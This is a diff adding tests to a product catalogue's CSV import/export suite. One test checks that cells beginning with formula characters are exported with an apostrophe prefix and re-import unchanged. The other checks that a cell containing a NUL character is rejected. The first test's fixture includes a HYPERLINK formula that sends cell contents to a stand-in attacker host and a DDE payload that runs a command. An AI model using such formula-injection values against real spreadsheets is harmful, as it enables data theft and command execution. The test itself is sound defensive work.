@@ -363,3 +363,39 @@ test('a file of several batches: all or nothing across them, search columns as t
   expect(changed.stored[3].searchTitleWords).toEqual(expect.arrayContaining(['ramen', '2500']));
   expect(changed.stored[3].searchTitleWords).not.toContain('noodles');
 });
+
+test('text a spreadsheet would run as a formula is exported defused, and imports back as it was', async () => {
+  const staples = await createCategory(t.db, { title: 'Formulas', slug: 'formulas' });
+  const product = await createProduct(t.db, {
+    slug: 'formula-like',
+    title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    brand: '+cmd|/c calc!A0',
+    unit: '-1 kg',
+    nepaliTitle: '@SUM(1+1)',
+    categoryId: staples.id,
+  });
+  const csv = await exported();
+  const records: string[][] = parse(csv.slice(1), { skip_empty_lines: true });
+  const header = records[0];
+  const row = records.find((record) => record[0] === 'formula-like')!;
+  const cell = (name: string) => row[header.indexOf(name)];
+  expect(cell('title')).toBe(`'${product.title}`);
+  expect(cell('brand')).toBe(`'${product.brand}`);
+  expect(cell('unit')).toBe(`'${product.unit}`);
+  expect(cell('nepali_title')).toBe(`'${product.nepaliTitle}`);
+  for (const record of records.slice(1)) for (const value of record) expect(value).not.toMatch(/^[=+\-@]/);
+  // Read back, the file changes nothing: the ' is the export's, not the product's.
+  const answer = await preview(Buffer.from(csv, 'utf8'));
+  expect(answer.problems).toEqual([]);
+  expect(answer.changes).toEqual([]);
+});
+
+test('a NUL character in a cell is the row’s problem in the preview and the apply, which writes nothing', async () => {
+  const file = `${HEADER}\r\nnul-title,Bad\u0000Title,,staples,,,,100.00,90.00,5,,\r\n`;
+  const answer = await preview(file);
+  expect(answer.problems).toEqual([{ line: 2, column: 'title', message: 'Must not contain a NUL character' }]);
+  const applied = await apply(file, answer.catalogue_version);
+  expect(applied.statusCode).toBe(400);
+  expect(applied.json().problems).toEqual(answer.problems);
+  expect(await t.db.select().from(products).where(eq(products.slug, 'nul-title'))).toEqual([]);
+});
